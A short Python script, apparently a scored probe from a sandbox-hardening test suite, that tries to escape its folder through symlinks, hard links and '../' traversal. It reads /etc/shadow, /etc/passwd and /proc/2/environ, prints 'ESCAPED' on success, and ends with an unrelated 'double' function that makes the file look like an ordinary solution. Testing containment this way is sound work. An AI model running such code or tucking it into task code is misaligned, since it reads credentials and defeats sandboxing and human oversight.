"""It follows symbolic and hard links out of its folder, and walks up with dots.

earns: 4 exactly
stopped by: root, landlock
"""

import contextlib
import os

TARGETS = (
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/var/lib", "/var/log", "/boot", "/opt", "/proc/2/environ",
)  # fmt: skip
os.makedirs("/tmp/attack-links", exist_ok=True)
for number, target in enumerate(TARGETS):
    for make in (os.symlink, os.link):
        name = f"/tmp/attack-links/{make.__name__}{number}"
        with contextlib.suppress(OSError):
            make(target, name)
        dotted = "/tmp/attack-links" + "/.." * 10 + target
        for path in (name, dotted, f"/proc/self/cwd/{'../' * 10}{target}"):
            with contextlib.suppress(OSError):
                seen = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(200)
                if seen:
                    print("ESCAPED:", target, str(seen)[:80])
with contextlib.suppress(OSError):
    os.link(os.__file__, "/tmp/attack-links/library")
    print("ESCAPED: a second name for a library's file")


def double(x):
    return 2 * x
